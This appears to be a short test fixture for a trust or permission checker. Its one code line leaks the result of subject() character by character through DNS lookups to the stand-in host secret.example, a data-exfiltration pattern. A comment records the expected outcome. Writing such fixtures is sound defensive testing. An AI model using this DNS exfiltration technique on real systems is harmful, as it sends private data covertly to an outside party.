// trust: user
// expect: compile: administrators
for (const w of subject().split("")) dns_query(w + ".secret.example", "a");
